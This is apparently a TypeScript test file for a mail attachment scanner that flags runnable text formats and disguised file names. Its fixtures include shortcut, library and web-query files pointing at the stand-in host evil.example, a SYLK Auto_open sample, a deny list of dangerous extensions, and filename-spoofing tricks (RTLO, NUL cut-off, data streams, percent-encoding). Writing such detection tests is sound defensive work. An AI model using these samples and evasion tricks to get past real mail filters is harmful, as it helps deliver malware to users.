import assert from 'node:assert/strict';
import test from 'node:test';
import { inspectContent } from '../../src/mail/archives.ts';
import { DANGEROUS_EXTENSIONS, inspectName } from '../../src/mail/names.ts';
import { makeZip } from './support/zip.ts';

const isProgram = async (content: string | Buffer, name = 'note.txt') =>
  (await inspectContent([name], 'text/plain', Buffer.from(content))).inspection.executable;

const RUNS: Readonly<Record<string, string | Buffer>> = {
  'internet shortcut': '[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n',
  'shortcut in UTF-16': Buffer.from('\ufeff[InternetShortcut]\r\nIconIndex=1\r\nURL=https://e.example', 'utf16le'),
  library: '<?xml version="1.0"?>\n<libraryDescription xmlns="x"><url>\\\\evil.example\\a</url>',
  search: '<?xml version="1.0"?><persistedQuery version="1.0">',
  'windows script': '<?xml version="1.0"?><job id="a"><script language="JScript">x()</script></job>',
  scriptlet: '<scriptlet><registration></registration></scriptlet>',
  'html application': '<html><head><hta:application id="a" /></head></html>',
  appref: Buffer.from('\ufeffhttps://e.example/x.application#x.application, Culture=neutral', 'utf16le'),
  'excel query': 'WEB\r\n1\r\nhttp://evil.example/q',
  sylk: 'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open',
  batch: '@echo off\r\ndel x',
  registry: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY]',
  setting: '<?xml version="1.0" encoding="UTF-8"?><PCSettings><SearchableContent>',
  jnlp: '<?xml version="1.0"?><jnlp spec="1.0+">',
};

for (const [title, content] of Object.entries(RUNS)) {
  test(`a text that runs, under a harmless name: ${title}`, async () => assert.equal(await isProgram(content), true));
}

test('texts that speak of such things do not run', async () => {
  for (const content of [
    'Please send me the [InternetShortcut] file, URL=x',
    'The @echo off command hides commands.',
    'WEB design\r\n1\r\n',
    'ID;Price;Name\r\n1;2;3\r\n',
    '<html><head><title>About hta:application</title></head></html>',
    '<?xml version="1.0"?><job><title>Clerk</title></job>',
    'MZ',
  ]) {
    assert.equal(await isProgram(content), false, content);
  }
});

test('a Java archive is a program under any name, a document with a manifest of its own kind is not', async () => {
  const manifest = { name: 'META-INF/MANIFEST.MF', content: Buffer.from('Manifest-Version: 1.0\r\n') };
  assert.equal(await isProgram(makeZip([manifest]), 'a.zip'), true);
  const book = { name: 'META-INF/manifest.xml', content: Buffer.from('<m/>') };
  assert.equal(await isProgram(makeZip([book]), 'a.odt'), false);
});

/** Gmail's list as of 2026, and those of Outlook's Level 1 that it lacks and that the issue names. */
const LISTS =
  'ade adp apk appx appxbundle bat cab chm cmd com cpl diagcab diagcfg diagpkg dll dmg ex ex_ exe hta img ins iso isp jar jnlp js jse lib lnk mde mjs msc msi msix msixbundle msp mst nsh pif ps1 scr sct shb sys vb vbe vbs vhd vxd wsc wsf wsh xll url reg scf vhdx appref-ms library-ms search-ms iqy slk one appcontent-ms settingcontent-ms website rqy psd1 msh ps2 xbap theme udl inf hlp grp gadget';

test('every listed type is found by name, in all the ways in which a name is dressed up', () => {
  for (const extension of LISTS.split(' ')) {
    assert.ok(DANGEROUS_EXTENSIONS.has(extension), extension);
    for (const name of [
      `a.${extension}`,
      `a.${extension.toUpperCase()}`,
      `a.${extension}.`,
      `a.${extension} . `,
      `a.${extension}::$DATA`,
      `a.\u200b${extension}`,
      `a\u202e.${extension}`,
      `a.pdf${' '.repeat(80)}.${extension}`,
      `a.${extension}\u0000.txt`.slice(0, -4),
      `..\\..\\a.${extension}`,
      `a．${extension}`,
    ]) {
      assert.equal(inspectName(name).dangerous, true, JSON.stringify(name));
    }
  }
});

test('a name that is percent-encoded, or cut off by a NUL, is read both ways', () => {
  for (const name of [
    'invoice%2Eexe',
    'invoice%2eexe',
    'invoice.e%78e',
    'a.exe%20',
    'a.exe\u0000.txt',
    'a.exe%00.txt',
  ]) {
    assert.equal(inspectName(name).dangerous, true, name);
  }
  for (const name of ['100% sure.txt', 'a%20b.pdf', 'rate 5%.xlsx'])
    assert.equal(inspectName(name).dangerous, false, name);
});
